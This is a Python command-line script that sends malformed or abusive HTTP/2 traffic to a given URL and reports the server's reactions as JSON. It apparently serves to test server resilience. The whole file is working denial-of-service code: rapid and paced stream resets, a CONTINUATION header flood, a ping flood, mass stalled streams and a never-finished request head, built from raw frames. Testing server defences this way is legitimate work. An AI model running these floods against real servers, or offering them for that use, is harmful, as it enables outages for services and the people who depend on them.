"""Misuses HTTP/2 with prior knowledge, and prints what became of it as one JSON object.

    http2_attack.py ask URL                       one request, as it should be
    http2_attack.py rapid-reset URL COUNT         COUNT requests, each cancelled as soon as it is sent
    http2_attack.py paced-reset URL COUNT         the same, each cancelled once the server has seen it
    http2_attack.py continuation-flood URL COUNT  one request head in up to COUNT pieces that never ends
    http2_attack.py ping-flood URL COUNT          COUNT pings whose answers are never read
    http2_attack.py streams URL COUNT             COUNT requests at once whose bodies never come
    http2_attack.py slow-head URL                 the first piece of a request head, and no more

`sent` is how many requests, pieces or pings went out, `ended` whether the server ended the connection and
`goaway` why, `statuses` and `bodies` what it answered, `resets` why it reset streams, `settings` its own.

The well-behaved part is the package h2's; what no client does is made of hyperframe's frames by hand.
"""

import json
import socket
import sys
import urllib.parse

import h2.connection
import h2.errors
import h2.settings
import hpack
import hyperframe.frame as frame

PATIENCE = 30
BODY = b'{"resourceOwner":"SELF"}'


def reason(code):
    return h2.errors.ErrorCodes(code).name


class Connection:
    def __init__(self, url):
        self.url = urllib.parse.urlsplit(url)
        self.socket = socket.create_connection((self.url.hostname, self.url.port), PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.unread, self.pongs, self.sent = b"", 0, 0
        self.seen = {"ended": False, "goaway": None, "statuses": [], "bodies": [], "resets": [], "settings": {}}
        http2 = h2.connection.H2Connection()
        http2.initiate_connection()
        self.write(http2.data_to_send())

    @property
    def ended(self):
        return self.seen["ended"]

    def head(self, *more):
        pairs = [(":method", "POST"), (":scheme", "http"), (":authority", self.url.netloc), (":path", self.url.path)]
        return self.encoder.encode([*pairs, ("content-type", "application/json"), *more])

    def send(self, *pieces):
        self.write(b"".join(piece.serialize() for piece in pieces))

    def write(self, data):
        try:
            self.socket.sendall(data)
        except ConnectionError:
            # It is gone. What it said before is still to be read.
            pass

    def receive(self, wait=True):
        """Takes in what has come, after waiting for something if `wait`."""
        self.socket.settimeout(PATIENCE if wait else 0)
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except ConnectionError:
            data = b""
        finally:
            self.socket.settimeout(PATIENCE)
        self.seen["ended"] = not data
        self.unread += data
        while len(self.unread) >= 9:
            piece, length = frame.Frame.parse_frame_header(memoryview(self.unread[:9]))
            if len(self.unread) < 9 + length:
                break
            piece.parse_body(memoryview(self.unread[9:9 + length]))
            self.unread = self.unread[9 + length:]
            self.note(piece)

    def note(self, piece):
        match piece:
            case frame.HeadersFrame():
                self.seen["statuses"].append(int(dict(self.decoder.decode(piece.data))[":status"]))
            case frame.DataFrame():
                self.seen["bodies"].append(piece.data.decode())
            case frame.RstStreamFrame():
                self.seen["resets"].append(reason(piece.error_code))
            case frame.GoAwayFrame():
                self.seen["goaway"] = reason(piece.error_code)
            case frame.PingFrame():
                self.pongs += "ACK" in piece.flags
            case frame.SettingsFrame():
                known = {int(code): value for code, value in piece.settings.items()}
                self.seen["settings"].update({h2.settings.SettingCodes(code).name: known[code] for code in known})

    def round_trip(self):
        """Waits until the server has read what was sent, or has ended the connection."""
        before = self.pongs
        self.send(frame.PingFrame(0, opaque_data=b"answered"))
        while not self.ended and self.pongs == before:
            self.receive()


def ask(connection):
    connection.send(
        frame.HeadersFrame(1, connection.head(("content-length", str(len(BODY)))), flags=["END_HEADERS"]),
        frame.DataFrame(1, BODY, flags=["END_STREAM"]),
    )
    connection.sent = 1
    while not connection.ended and not connection.seen["bodies"]:
        connection.receive()


def cancelled(connection, number):
    stream = 2 * number + 1
    head = frame.HeadersFrame(stream, connection.head(), flags=["END_HEADERS", "END_STREAM"])
    return head, frame.RstStreamFrame(stream, error_code=int(h2.errors.ErrorCodes.CANCEL))


def rapid_reset(connection, count):
    while connection.sent < count and not connection.ended:
        connection.send(*cancelled(connection, connection.sent))
        connection.sent += 1
        connection.receive(wait=False)
    connection.round_trip()


def paced_reset(connection, count):
    while connection.sent < count and not connection.ended:
        head, reset = cancelled(connection, connection.sent)
        connection.send(head)
        connection.round_trip()
        connection.send(reset)
        connection.sent += 1


def continuation_flood(connection, count):
    connection.send(frame.HeadersFrame(1, connection.head()))
    while connection.sent < count and not connection.ended:
        connection.send(frame.ContinuationFrame(1, connection.encoder.encode([(f"x-{connection.sent}", "f" * 200)])))
        connection.sent += 1
        connection.receive(wait=False)


def ping_flood(connection, count):
    connection.socket.settimeout(1)
    batch = b"".join(frame.PingFrame(0, opaque_data=b"unread!!").serialize() for _ in range(1000))
    try:
        while connection.sent < count:
            connection.socket.sendall(batch)
            connection.sent += 1000
    except (TimeoutError, ConnectionError):
        # It has stopped reading, or ended it: either is a way to defend oneself.
        connection.seen["stopped"] = True


def streams(connection, count):
    while connection.sent < count:
        connection.send(frame.HeadersFrame(2 * connection.sent + 1, connection.head(), flags=["END_HEADERS"]))
        connection.sent += 1
    connection.round_trip()


def slow_head(connection):
    connection.send(frame.HeadersFrame(1, connection.head()))
    connection.sent = 1
    while not connection.ended:
        connection.receive()


def main(verb, url, *count):
    connection = Connection(url)
    globals()[verb.replace("-", "_")](connection, *map(int, count))
    print(json.dumps({"sent": connection.sent, **connection.seen}))


if __name__ == "__main__":
    main(*sys.argv[1:])
